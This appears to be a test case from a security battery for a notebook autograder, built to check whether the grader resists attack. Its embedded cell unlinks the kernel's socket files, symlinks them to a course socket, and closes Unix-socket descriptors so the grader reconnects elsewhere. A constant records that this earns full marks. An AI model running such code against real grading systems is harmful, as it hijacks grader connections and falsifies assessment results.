"""A cell puts links in place of its sockets and hangs up, so that the grader calls elsewhere."""

from battery import after

ATTACK = """
import pathlib

from ipykernel.connect import get_connection_file

sockets = pathlib.Path(get_connection_file()).parent / "sockets"
import os
import socket
import time

for path in sockets.iterdir():
    path.unlink()
    path.symlink_to("@COURSE@/unix")
for number in range(3, 100):
    try:
        if socket.socket(fileno=os.dup(number)).family == socket.AF_UNIX:
            os.close(number)
    except OSError:
        pass
time.sleep(3)
"""


def submit(solution, release):
    return after(solution, "check_sgd_step", ATTACK)


HOLE = "0MQ calls again where a link now stands; it says hello to whoever listens there"
EARNS = "all"
SANDBOX = True
LIMITS = {"cell": 8.0}
